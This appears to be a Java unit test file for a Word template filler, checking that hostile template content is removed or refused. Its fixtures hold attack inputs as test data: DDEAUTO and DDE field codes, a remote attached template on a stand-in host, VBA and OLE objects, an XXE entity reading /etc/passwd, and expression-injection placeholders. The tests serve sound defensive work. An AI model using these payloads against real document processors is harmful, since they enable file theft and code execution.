package org.branchbook.wordform;

import static org.branchbook.wordform.Docx.line;
import static org.branchbook.wordform.Docx.p;
import static org.branchbook.wordform.Docx.r;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.branchbook.base.AppException;
import org.branchbook.base.ZipParts;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Nothing in a template may start, fetch or read anything, here or in the filled-in document. */
class HostileTemplatesTest {
    private static final String EVIL = "http://evil.invalid/x";
    private static final String MICROSOFT =
            "http://schemas.microsoft.com/office/2006/relationships/";

    @TempDir Path folder;

    /** Fills it in, looks for the address in every part, and returns what was said. */
    private List<String> filled(Docx docx) throws IOException {
        WordForm form = Forms.read(docx, folder);
        byte[] bytes = form.fill(Forms.values());
        for (Map.Entry<String, String> part : ZipParts.of(bytes).entrySet()) {
            assertFalse(part.getValue().contains("evil"), part.toString());
            assertFalse(part.getValue().contains("TargetMode=\"External\""), part.toString());
            assertTrue(
                    part.getKey().matches("(_rels/|docProps/|word/|\\[Content_Types).*(xml|rels)"),
                    part.getKey());
        }
        assertTrue(Forms.lines(bytes).getFirst().startsWith("张三"));
        return Forms.said(form);
    }

    private static String field(String... codes) {
        StringBuilder runs = new StringBuilder("<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>");
        for (String code : codes) {
            runs.append(
                    code.startsWith("<")
                            ? code
                            : "<w:r><w:instrText>" + code + "</w:instrText></w:r>");
        }
        return runs
                + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r>"
                + r("旧")
                + "<w:r><w:fldChar w:fldCharType=\"end\"/></w:r>";
    }

    @Test
    void takesOutMacrosObjectsIncludedFilesAndTheAttachedTemplate() throws IOException {
        Docx docx =
                Docx.of(
                                line("{{主持人}}"),
                                "<w:altChunk r:id=\"chunk\"/>",
                                p("<w:subDoc r:id=\"sub\"/>"),
                                p(
                                        "<w:r><w:object><v:shape/><o:OLEObject Type=\"Link\""
                                                + " ProgID=\"Package\""
                                                + " r:id=\"ole\"/></w:object></w:r>"),
                                p("<w:r><w:control r:id=\"control\" w:name=\"evil\"/></w:r>"))
                        .settings("<w:attachedTemplate r:id=\"none\"/><w:mailMerge/>")
                        .part(
                                "word/_rels/settings.xml.rels",
                                "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/"
                                        + "2006/relationships\"><Relationship Id=\"none\" Type=\""
                                        + "http://schemas.openxmlformats.org/officeDocument/2006/"
                                        + "relationships/attachedTemplate\" TargetMode=\"External\""
                                        + " Target=\""
                                        + EVIL
                                        + ".dotm\"/></Relationships>")
                        .part("word/vbaProject.bin", "evil")
                        .part("word/chunk.html", "<img src='" + EVIL + "'/>")
                        .part("word/embeddings/ole.bin", "evil")
                        .part("word/activeX/activeX1.xml", "<evil/>")
                        .relation("vba", MICROSOFT + "vbaProject", "vbaProject.bin", false)
                        .relation("chunk", "aFChunk", "chunk.html", false)
                        .relation("sub", "subDocument", EVIL, true)
                        .relation("ole", "oleObject", "embeddings/ole.bin", false)
                        .relation("control", "control", "activeX/activeX1.xml", false);
        assertEquals(
                List.of(
                        "注意 整个文件：已去掉宏（1 处），填写出来的文件里没有它们。",
                        "注意 整个文件：已去掉嵌入的对象或控件（2 处），填写出来的文件里没有它们。",
                        "注意 整个文件：已去掉引入的其他文件（2 处），填写出来的文件里没有它们。",
                        "注意 整个文件：已去掉附加的模板（1 处），填写出来的文件里没有它们。"),
                filled(docx));
    }

    @Test
    void takesOutLinksAndPicturesFromElsewhere() throws IOException {
        String picture =
                "<w:r><w:drawing><wp:inline><wp:extent cx=\"1\" cy=\"1\"/><wp:docPr id=\"1\""
                        + " name=\"{{主持人}}\" descr=\"{{@党支部}}\"/><a:graphic><a:graphicData"
                        + " uri=\"http://schemas.openxmlformats.org/drawingml/2006/picture\">"
                        + "<pic:pic><pic:blipFill><a:blip"
                        + " r:link=\"pic\"/></pic:blipFill></pic:pic>"
                        + "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>";
        String old =
                "<w:r><w:pict><v:shape><v:imagedata r:id=\"old\""
                        + " o:href=\"x\"/></v:shape></w:pict></w:r>";
        Docx docx =
                Docx.of(
                                p(
                                        r("{{主持人}}"),
                                        "<w:hyperlink r:id=\"link\">" + r("网页") + "</w:hyperlink>"),
                                p(picture, old, r("后")))
                        .relation("link", "hyperlink", EVIL, true)
                        .relation("pic", "image", EVIL + ".png", true)
                        .relation("old", "image", "\\\\evil\\share\\x.png", true);
        assertEquals(
                List.of(
                        "注意 整个文件：已去掉指向外部的链接（1 处），填写出来的文件里没有它们。",
                        "注意 整个文件：已去掉链接到外部的图片（2 处），填写出来的文件里没有它们。"),
                filled(docx));
        assertEquals(
                List.of("张三网页", "后"), Forms.lines(Forms.read(docx, folder).fill(Forms.values())));
    }

    @Test
    void leavesOnlyTheResultOfFieldsThatReadOrStartSomething() throws IOException {
        Docx docx =
                Docx.of(
                        line("{{主持人}}"),
                        p(field(" DDEAUTO c:\\\\evil ")),
                        p(field(" INCLUDE", "PICTURE \"" + EVIL + "\" \\d ")),
                        p(field(" QUOTE 68 ", field("IF 1=1 \"evil\""))),
                        p(field(" = ", field(" DDE evil "), "+1")),
                        p(field(" PAGE ")),
                        p(
                                "<w:fldSimple w:instr=\"INCLUDETEXT evil.docx\">"
                                        + r("旧")
                                        + "</w:fldSimple>"));
        assertEquals(List.of("注意 整个文件：已去掉会读取文件或启动程序的域（6 处），填写出来的文件里没有它们。"), filled(docx));
        byte[] bytes = Forms.read(docx, folder).fill(Forms.values());
        assertEquals(List.of("张三", "旧", "旧", "旧", "旧", "旧", "旧"), Forms.lines(bytes));
        String xml = ZipParts.of(bytes).get("word/document.xml");
        assertEquals(1, xml.split("instrText>", -1).length / 2);
        assertTrue(xml.contains(" PAGE "));
    }

    @Test
    void refusesDoctypesThatWouldReadFiles() throws IOException {
        Docx docx =
                Docx.of(line("{{主持人}}"))
                        .part(
                                "word/header1.xml",
                                "<!DOCTYPE x [<!ENTITY e SYSTEM"
                                        + " \"file:///etc/passwd\">]><x>&e;</x>")
                        .relation("h", "header", "header1.xml", false);
        AppException refused = assertThrows(AppException.class, () -> Forms.read(docx, folder));
        assertEquals("office.xml", refused.key());
    }

    @Test
    void evaluatesNothing() throws IOException {
        WordForm form =
                Forms.read(Docx.of(line("{{主持人}}{{主持人.class.name}}{{new('x')}}{{?T(x)}}")), folder);
        assertEquals(4, form.findings().size());
        assertThrows(AppException.class, () -> form.fill(Forms.values()));
    }

    @Test
    void takesAnAddressTypedAsANameForATextAndNothingElse() throws IOException {
        WordForm form = Forms.read(Docx.of(line("{{主持人}}{{@主持人}}")), folder);
        byte[] bytes = form.fill(Forms.values().text("主持人", "file:///etc/passwd"));
        assertEquals(List.of("file:///etc/passwdfile:///etc/passwd"), Forms.lines(bytes));
    }
}
